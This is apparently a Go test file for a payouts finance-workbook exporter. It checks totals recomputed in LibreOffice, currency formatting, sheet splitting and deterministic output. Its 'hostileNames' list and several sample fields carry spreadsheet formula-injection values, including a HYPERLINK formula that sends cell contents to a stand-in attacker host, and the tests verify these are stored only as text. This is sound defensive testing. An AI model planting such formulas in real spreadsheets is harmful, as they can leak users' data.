package reports

import (
	"archive/zip"
	"bytes"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"payouts/reconcile"
	"payouts/reconcile/ledger"
	"payouts/reconcile/runtype"
	"payouts/reports/sheettest"
	"payouts/reports/xlsx"
)

// hostileNames are names a participant could give themselves that a
// spreadsheet would run as formulas if they were written as such.
var hostileNames = []string{`=HYPERLINK("http://evil.example/?x="&A1,"click")`, "+1", "-1", "@SUM(1)", "=1+1", "\tTab"}

// sampleWorkbook is a run in BRL, JPY and KWD with n participant rows
// (some with hostile names), a few contracts, held sales and
// discrepancies.
func sampleWorkbook(n int) FinanceWorkbook {
	codes := []string{"BRL", "JPY", "KWD"}
	var parts []ledger.ParticipantBalance
	for i := 0; i < n; i++ {
		code := codes[i%len(codes)]
		name := fmt.Sprintf("Participant %d", i)
		if i < len(hostileNames) {
			name = hostileNames[i]
		}
		cur, _ := reconcile.LookupCurrency(code)
		p := ledger.ParticipantBalance{Name: name, Balance: reconcile.Balance{ParticipantID: fmt.Sprintf("p%04d", i), Currency: cur,
			BroughtForward: int64(i%5) * -7, Commissions: int64(1000*i + 7), Reversals: -int64(i % 3 * 11),
			Adjustments: int64(i%2) * 3}}
		if i == 0 {
			p.ParticipantID = "-1" // ids are text too; one that looks like a number
		}
		closing := p.BroughtForward + p.Commissions + p.Reversals + p.Adjustments
		if i%4 == 3 {
			p.CarriedForward = closing
		} else {
			p.Payout = closing
		}
		parts = append(parts, p)
	}
	// Participants come by currency, then participant.
	var sorted []ledger.ParticipantBalance
	for _, code := range codes {
		for _, p := range parts {
			if p.Currency.Code == code {
				sorted = append(sorted, p)
			}
		}
	}
	// The role figures add up to the participants' commissions, as in a
	// real run: the Summary's commissions check is 0.
	commissions := map[string]int64{}
	for _, p := range sorted {
		commissions[p.Currency.Code] += p.Commissions
	}
	w := FinanceWorkbook{Run: ledger.Run{RunID: "nightly-20260303", BusinessDate: "2026-03-03", Kind: runtype.Nightly,
		WindowEnd: time.Date(2026, 3, 4, 3, 0, 0, 0, time.UTC)},
		Currencies: []ledger.CurrencySummary{
			{Currency: "BRL", SalesAllocated: 3, Gross: 30000, Net: 27000, Affiliate: 100, Coproducer: 200,
				Lead: commissions["BRL"] - 300, Lines: 6},
			{Currency: "JPY", SalesAllocated: 1, Gross: 9800, Net: 8820, Lead: commissions["JPY"], Lines: 1},
			{Currency: "KWD", SalesAllocated: 1, Gross: 12345, Net: 12000, Lead: commissions["KWD"], Lines: 1},
			{Currency: "XYZ"}, // a held sale's currency payouts does not know
		},
		DiscrepancyCounts: []ledger.DiscrepancyCount{{Kind: "CAP_EXCEEDED", Currency: "BRL", Count: 1},
			{Kind: "INVALID_SALE", Currency: "XYZ", Count: 1}, {Kind: "MISSING_PAYOUT_ACCOUNT", Currency: "BRL", Count: 2}},
		History: []ledger.RunPayouts{
			{RunID: "nightly-20260302", BusinessDate: "2026-03-02", Payouts: []ledger.RunTotal{{Currency: "BRL", Count: 1, Amount: 123456}}},
			{RunID: "nightly-20260303", BusinessDate: "2026-03-03", Payouts: []ledger.RunTotal{{Currency: "BRL", Count: 1, Amount: 5000},
				{Currency: "JPY", Count: 1, Amount: 8820}}},
		},
		Participants: func(fn func(ledger.ParticipantBalance) error) error {
			for _, p := range sorted {
				if err := fn(p); err != nil {
					return err
				}
			}
			return nil
		},
		Contracts: func(fn func(ledger.ContractApplied) error) error {
			return fn(ledger.ContractApplied{ContractID: "c1", Version: 2, CoproducerID: "p0002", CoproducerName: hostileNames[2],
				ProductID: "=prod", Currency: "BRL", Rate: 125000, Scope: "affiliate", Sales: 2, Commissions: 200, Reversals: -50})
		},
		HeldSales: func(fn func(ledger.HeldSale) error) error {
			for _, h := range []ledger.HeldSale{
				{SaleID: "s13", ProductID: "prod1", Currency: "BRL", Gross: "100.00", Kind: "CAP_EXCEEDED", Detail: "+cap"},
				{SaleID: "s99", ProductID: "prod1", Currency: "XYZ", Gross: "12.5", Kind: "INVALID_SALE", Detail: "=unknown currency"},
				{SaleID: "s98", ProductID: "prod2", Currency: "JPY", Gross: "9800.50", Kind: "INVALID_SALE", Detail: "@fraction"},
			} {
				if err := fn(h); err != nil {
					return err
				}
			}
			return nil
		},
		Discrepancies: func(fn func(reconcile.ReportedDiscrepancy) error) error {
			for _, f := range []reconcile.Finding{
				{Kind: "CAP_EXCEEDED", Blocking: true, SaleID: "s13", Currency: "BRL", Expected: "70", Actual: "80", Detail: "-held"},
				{Kind: "MISSING_PAYOUT_ACCOUNT", Blocking: true, ParticipantID: "p0003", Currency: "BRL", Expected: "-1.00", Detail: `=HYPERLINK("x")`},
			} {
				if err := fn(reconcile.ReportedDiscrepancy{Finding: f}); err != nil {
					return err
				}
			}
			return nil
		},
	}
	return w
}

// expected sums a sample's participant rows per currency.
func expected(w FinanceWorkbook) (lines, payouts, bf, carried map[string]int64) {
	lines, payouts, bf, carried = map[string]int64{}, map[string]int64{}, map[string]int64{}, map[string]int64{}
	_ = w.Participants(func(p ledger.ParticipantBalance) error {
		lines[p.Currency.Code] += p.Commissions + p.Reversals + p.Adjustments
		payouts[p.Currency.Code] += p.Payout
		bf[p.Currency.Code] += p.BroughtForward
		carried[p.Currency.Code] += p.CarriedForward
		return nil
	})
	return
}

// writeSample writes w streaming chunkRows rows at a time.
func writeSample(t *testing.T, w FinanceWorkbook, chunkRows int) (string, WorkbookTotals) {
	t.Helper()
	path := filepath.Join(t.TempDir(), "finance.xlsx")
	var buf bytes.Buffer
	tot, err := writeFinanceWorkbook(&buf, t.TempDir(), w, chunkRows)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, buf.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	return path, tot
}

// summaryCell is the reference of a figure's cell for a currency on the
// Summary sheet of f.
func summaryCell(t *testing.T, f *excelize.File, label, code string) string {
	t.Helper()
	return sheettest.Cell(t, f, "Summary", label, code)
}

// checkRecomputedSummary checks, in a workbook LibreOffice recomputed, the
// Summary's live totals and checks against the sample's own sums.
func checkRecomputedSummary(t *testing.T, f *excelize.File, w FinanceWorkbook) {
	t.Helper()
	lines, payouts, bf, carried := expected(w)
	for _, code := range []string{"BRL", "JPY", "KWD"} {
		cur, _ := reconcile.LookupCurrency(code)
		for _, c := range []struct {
			label string
			want  int64
		}{{"Lines total", lines[code]}, {"Payouts", payouts[code]}, {"Brought forward", bf[code]},
			{"Carried forward", carried[code]}, {figureLabels[fCheckBalance], 0}, {figureLabels[fCheckCommissions], 0}} {
			if got := sheettest.Minor(t, f, "Summary", summaryCell(t, f, c.label, code), cur.Minor); got != c.want {
				t.Errorf("%s %s: LibreOffice computes %d minor units, want %d", code, c.label, got, c.want)
			}
		}
	}
}

func TestFinanceWorkbookRecomputedByLibreOffice(t *testing.T) {
	t.Parallel()
	w := sampleWorkbook(40)
	path, tot := writeSample(t, w, 7) // rows streamed 7 at a time: chunks joined mid-sheet
	lines, payouts, _, _ := expected(w)
	for code, v := range lines {
		if tot.Lines[code] != v || tot.Payouts[code] != payouts[code] {
			t.Errorf("%s: totals %d/%d, want %d/%d", code, tot.Lines[code], tot.Payouts[code], v, payouts[code])
		}
	}
	f := sheettest.Recalc(t, path)
	checkRecomputedSummary(t, f, w)
	// Held sales: counted and summed per currency, the unknown currency too.
	if got := sheettest.Minor(t, f, "Summary", summaryCell(t, f, "Held sales gross", "BRL"), 2); got != 10000 {
		t.Errorf("held gross BRL: %d", got)
	}
	if got := sheettest.Minor(t, f, "Summary", summaryCell(t, f, "Held sales (count)", "JPY"), 0); got != 1 {
		t.Errorf("held count JPY: %d", got)
	}
	checkTextCells(t, f, true)
}

// checkTextCells checks that every hostile text the sample carries is in
// the workbook f as text: the same characters, no formula.
func checkTextCells(t *testing.T, f *excelize.File, afterLibreOffice bool) {
	t.Helper()
	found := map[string]int{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for r, row := range rows {
			for c, v := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				for _, h := range append(hostileNames, "=prod", "=unknown currency", "@fraction", "+cap", "-held", `=HYPERLINK("x")`) {
					if v == h {
						found[h]++
						if fo, _ := f.GetCellFormula(sheet, ref); fo != "" {
							t.Errorf("%s!%s: %q is a formula %q (after LibreOffice: %v)", sheet, ref, v, fo, afterLibreOffice)
						}
					}
				}
			}
		}
	}
	for _, h := range append(hostileNames, "=prod", "=unknown currency", "@fraction", "+cap", "-held") {
		if found[h] == 0 {
			t.Errorf("text %q is not in the workbook as written (after LibreOffice: %v)", h, afterLibreOffice)
		}
	}
}

func TestFinanceWorkbookFormatsAsShown(t *testing.T) {
	t.Parallel()
	w := sampleWorkbook(12)
	path, _ := writeSample(t, w, xlsx.DefaultChunkRows)
	sheets := sheettest.SheetsAsShown(t, path)
	summary := sheets["Summary"]
	if summary == nil {
		t.Fatalf("no Summary sheet in %v", keys(sheets))
	}
	get := func(label string, col int) string {
		for _, row := range summary {
			if len(row) > col && row[0] == label {
				return row[col]
			}
		}
		t.Fatalf("Summary has no row %q: %q", label, summary)
		return ""
	}
	// Columns: B BRL, C JPY, D KWD, E XYZ.
	for _, c := range []struct {
		label string
		col   int
		want  string
	}{
		{"Gross", 1, "300.00 BRL"}, {"Gross", 2, "9,800 JPY"}, {"Gross", 3, "12.345 KWD"},
		{"Platform fees", 1, "30.00 BRL"}, {"Sales allocated", 1, "3"},
		{"Held sales gross", 4, "12.5"},
	} {
		if got := get(c.label, c.col); got != c.want {
			t.Errorf("Summary %s column %d shows %q, want %q", c.label, c.col, got, c.want)
		}
	}
	// Every hostile name shows as written in the Participants sheet.
	shown := map[string]bool{}
	for _, row := range sheets["Participants"] {
		if len(row) > 1 {
			shown[row[1]] = true
		}
	}
	for _, h := range hostileNames {
		if !shown[h] {
			t.Errorf("Participants does not show %q as written", h)
		}
	}
	// A participant id "-1" stays text, not the number -1.
	for _, row := range sheets["Participants"] {
		if len(row) > 0 && row[0] == "-1" {
			return
		}
	}
	t.Errorf("participant id -1 lost: %q", sheets["Participants"])
}

func keys(m map[string][][]string) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	return out
}

func TestFinanceWorkbookContinuesLongSheets(t *testing.T) {
	t.Parallel()
	w := sampleWorkbook(25)
	// 4 totals rows (BRL, JPY, KWD, XYZ), a blank and the header take
	// rows 1-6: 4 data rows per sheet, so 25 participants need 7 sheets.
	w.MaxRows = 10
	path, tot := writeSample(t, w, 3)
	if tot.Rows != 25+1+3+2 {
		t.Errorf("rows %d", tot.Rows)
	}
	own, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer own.Close()
	want := []string{"Summary", "Participants", "Participants (2)", "Participants (3)", "Participants (4)",
		"Participants (5)", "Participants (6)", "Participants (7)", "Contracts applied", "Held sales", "Discrepancies"}
	if got := own.GetSheetList(); strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("sheets %q, want %q", got, want)
	}
	n := 0
	for _, sheet := range want[1:8] {
		rows, err := own.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		if len(rows) > w.MaxRows {
			t.Errorf("%s has %d rows, limit %d", sheet, len(rows), w.MaxRows)
		}
		if len(rows) < 6 || rows[5][0] != "Participant" {
			t.Errorf("%s: no header in row 6: %q", sheet, rows)
			continue
		}
		n += len(rows) - 6
	}
	if n != 25 {
		t.Errorf("%d participant rows over the sheets, want 25", n)
	}
	f := sheettest.Recalc(t, path)
	checkRecomputedSummary(t, f, w)
	// Each sheet's totals cover its own rows: the last sheet holds one row.
	last := "Participants (7)"
	rows, _ := f.GetRows(last)
	var p ledger.ParticipantBalance
	_ = w.Participants(func(x ledger.ParticipantBalance) error { p = x; return nil })
	if got := sheettest.Minor(t, f, last, "E3", 3); got != p.Commissions || rows[2][2] != "KWD" {
		t.Errorf("%s KWD commissions total %d (row %q), want %d", last, got, rows[2], p.Commissions)
	}
}

func TestFinanceWorkbookRowLimitLeavesRoomForData(t *testing.T) {
	t.Parallel()
	w := sampleWorkbook(3)
	w.MaxRows = 6 // the totals and header fill rows 1-6
	if _, err := WriteFinanceWorkbook(&bytes.Buffer{}, t.TempDir(), w); err == nil || !strings.Contains(err.Error(), "no room") {
		t.Fatalf("err = %v", err)
	}
}

func TestFinanceWorkbookIsDeterministic(t *testing.T) {
	t.Parallel()
	var first []byte
	for i := 0; i < 3; i++ {
		var buf bytes.Buffer
		if _, err := WriteFinanceWorkbook(&buf, t.TempDir(), sampleWorkbook(30)); err != nil {
			t.Fatal(err)
		}
		if i == 0 {
			first = buf.Bytes()
			continue
		}
		if !bytes.Equal(first, buf.Bytes()) {
			t.Fatalf("write %d differs from the first (%d and %d bytes)", i+1, len(first), buf.Len())
		}
	}
	zr, err := zip.NewReader(bytes.NewReader(first), int64(len(first)))
	if err != nil {
		t.Fatal(err)
	}
	want := time.Date(2026, 3, 4, 3, 0, 0, 0, time.UTC)
	var names []string
	for _, f := range zr.File {
		names = append(names, f.Name)
		if !f.Modified.Equal(want) || len(f.Extra) != 0 {
			t.Errorf("%s: modified %v, %d extra bytes; want %v and none", f.Name, f.Modified, len(f.Extra), want)
		}
	}
	if names[0] != "[Content_Types].xml" || !sortedStrings(names) {
		t.Errorf("entries not in name order: %q", names)
	}
	// Several streamed sheets: excelize alone would write them in map order.
	if n := strings.Count(strings.Join(names, " "), "xl/worksheets/sheet"); n < 5 {
		t.Errorf("%d sheets in %q", n, names)
	}
	f, err := excelize.OpenReader(bytes.NewReader(first))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	props, err := f.GetDocProps()
	if err != nil {
		t.Fatal(err)
	}
	if props.Created != "2026-03-04T03:00:00Z" || props.Modified != props.Created {
		t.Errorf("document properties: created %q, modified %q", props.Created, props.Modified)
	}
	checkTextCells(t, f, false)
	checkOnlyOurFormulas(t, f)
}

// TestFinanceWorkbookChunksDoNotShow streams the same workbook in chunks
// of every size: the bytes do not change.
func TestFinanceWorkbookChunksDoNotShow(t *testing.T) {
	t.Parallel()
	var want []byte
	for _, chunk := range []int{xlsx.DefaultChunkRows, 1, 2, 5, 13, 46} {
		var buf bytes.Buffer
		if _, err := writeFinanceWorkbook(&buf, t.TempDir(), sampleWorkbook(40), chunk); err != nil {
			t.Fatal(err)
		}
		if want == nil {
			want = buf.Bytes()
		} else if !bytes.Equal(want, buf.Bytes()) {
			t.Errorf("chunks of %d rows give other bytes than chunks of %d", chunk, xlsx.DefaultChunkRows)
		}
	}
	// And nothing is left in the temporary directory.
	dir := t.TempDir()
	if _, err := writeFinanceWorkbook(&bytes.Buffer{}, dir, sampleWorkbook(40), 3); err != nil {
		t.Fatal(err)
	}
	if left, _ := os.ReadDir(dir); len(left) != 0 {
		t.Errorf("temporary files left: %v", left)
	}
}

func sortedStrings(s []string) bool {
	for i := 1; i < len(s); i++ {
		if s[i-1] > s[i] {
			return false
		}
	}
	return true
}

// checkOnlyOurFormulas checks that formulas appear only where we put
// them: the Summary and the totals rows above each list's header.
func checkOnlyOurFormulas(t *testing.T, f *excelize.File) {
	t.Helper()
	for _, sheet := range f.GetSheetList()[1:] {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		header := 0
		for r, row := range rows {
			if header == 0 && len(row) > 0 && row[0] != "Total" && row[0] != "" {
				header = r + 1
			}
			for c := range row {
				ref, _ := excelize.CoordinatesToCellName(c+1, r+1)
				if fo, _ := f.GetCellFormula(sheet, ref); fo != "" && (header != 0 || row[0] != "Total") {
					t.Errorf("%s!%s has formula %q outside the totals rows", sheet, ref, fo)
				}
			}
		}
	}
}

// TestFinanceWorkbookOfAnEmptyRun: a run with nothing in it still gets a
// workbook with every sheet and its headers.
func TestFinanceWorkbookOfAnEmptyRun(t *testing.T) {
	t.Parallel()
	w := FinanceWorkbook{Run: ledger.Run{RunID: "nightly-20260101", BusinessDate: "2026-01-01", Kind: runtype.Nightly,
		WindowEnd: time.Date(2026, 1, 2, 3, 0, 0, 0, time.UTC)}}
	path, tot := writeSample(t, w, xlsx.DefaultChunkRows)
	if tot.Rows != 0 || len(tot.Payouts) != 0 {
		t.Errorf("totals %+v", tot)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := strings.Join(f.GetSheetList(), "|"); got != "Summary|Participants|Contracts applied|Held sales|Discrepancies" {
		t.Errorf("sheets %s", got)
	}
	if v, _ := f.GetCellValue("Participants", "A1"); v != "Participant" {
		t.Errorf("Participants A1 = %q, want the header", v)
	}
}

// TestWorkbookDiscrepancyAmountsAreNumbers (issue 15.8): the expected and
// actual amounts of MISSING_INVOICE, AMOUNT_MISMATCH and
// MISSING_PAYOUT_ACCOUNT are numbers with the currency's format (SPEC 7);
// rates, tax ids and an amount that cannot be read stay text.
func TestWorkbookDiscrepancyAmountsAreNumbers(t *testing.T) {
	t.Parallel()
	w := sampleWorkbook(3)
	w.Discrepancies = func(fn func(reconcile.ReportedDiscrepancy) error) error {
		for _, f := range []reconcile.Finding{
			{Kind: "AMOUNT_MISMATCH", InvoiceID: "i1", Currency: "BRL", Expected: "100.00", Actual: "99.50", Detail: "a"},
			{Kind: "AMOUNT_MISMATCH", InvoiceID: "i2", Currency: "BRL", Expected: "100.00", Actual: "abc", Detail: "b"},
			{Kind: "CAP_EXCEEDED", SaleID: "s13", Currency: "BRL", Expected: "70", Actual: "80", Detail: "c"},
			{Kind: "ISSUER_MISMATCH", InvoiceID: "i3", Currency: "BRL", Expected: "11144477735", Actual: "52998224725", Detail: "d"},
			{Kind: "MISSING_INVOICE", SaleID: "s1", Currency: "JPY", Expected: "9800", Detail: "e"},
			{Kind: "MISSING_PAYOUT_ACCOUNT", ParticipantID: "p1", Currency: "KWD", Expected: "1.234", Actual: "0.000", Detail: "f"},
		} {
			if err := fn(reconcile.ReportedDiscrepancy{Finding: f}); err != nil {
				return err
			}
		}
		return nil
	}
	path, _ := writeSample(t, w, xlsx.DefaultChunkRows)
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Discrepancies")
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][2]string{ // detail -> expected, actual: "n" number, "s" text, "" empty
		"a": {"n", "n"}, "b": {"n", "s"}, "c": {"s", "s"}, "d": {"s", "s"}, "e": {"n", ""}, "f": {"n", "n"},
	}
	seen := 0
	for r, row := range rows {
		if len(row) < 10 || want[row[9]] == [2]string{} {
			continue
		}
		seen++
		for i, col := range []int{8, 9} {
			ref, _ := excelize.CoordinatesToCellName(col, r+1)
			typ, err := f.GetCellType("Discrepancies", ref)
			if err != nil {
				t.Fatal(err)
			}
			got := "s"
			switch {
			case row[col-1] == "":
				got = ""
			case typ == excelize.CellTypeNumber || typ == excelize.CellTypeUnset:
				got = "n"
			}
			style, _ := f.GetCellStyle("Discrepancies", ref)
			if got == "n" && style == 0 {
				t.Errorf("%s (%s): a number without the currency's format", ref, row[0])
			}
			if got != want[row[9]][i] {
				t.Errorf("%s (%s %q): kind of cell %q, want %q", ref, row[0], row[col-1], got, want[row[9]][i])
			}
		}
	}
	if seen != len(want) {
		t.Errorf("found %d of %d discrepancy rows: %q", seen, len(want), rows)
	}
}
